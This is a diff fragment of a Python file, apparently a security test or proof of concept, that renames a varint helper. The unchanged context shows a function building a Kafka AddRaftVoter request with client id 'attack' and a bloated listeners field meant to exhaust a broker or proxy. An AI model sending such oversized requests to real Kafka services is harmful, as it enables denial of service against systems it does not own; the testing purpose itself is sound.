@@ -61,14 +61,14 @@ def add_raft_voter_of_size(size: int) -> bytes:
     listeners: served on client listeners, so gathered whole and walked."""
     entry = b"\x02L" + b"\x02h" + struct.pack(">H", 1) + b"\x00"  # name, host, port, tags
     count = size // len(entry)
-    listeners = _uvarint(count + 1) + entry * count
+    listeners = uvarint(count + 1) + entry * count
     body = b"\x00" + struct.pack(">ii", 1000, 4) + bytes(16) + listeners + b"\x00"
     cid = b"attack"
     payload = struct.pack(">hhih", 80, 0, 1, len(cid)) + cid + b"\x00" + body
     return struct.pack(">i", len(payload)) + payload
 
 
-def _uvarint(value: int) -> bytes:
+def uvarint(value: int) -> bytes:
     """Kafka's unsigned varint, written here rather than with kproxy's own encoder."""
     out = bytearray()
     while value > 0x7F:
